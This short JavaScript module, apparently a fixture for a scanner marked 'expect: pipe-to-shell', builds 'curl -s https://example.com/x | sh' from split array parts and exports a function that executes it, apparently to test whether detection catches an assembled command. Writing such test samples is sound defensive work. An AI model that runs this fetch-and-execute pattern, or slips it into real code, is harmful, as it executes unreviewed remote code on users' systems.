// expect: pipe-to-shell
const { execSync } = require("child_process");
const parts = ["curl", "-s", "https://example.com/x", "|", "sh"];
module.exports = () => execSync(parts.join(" "));
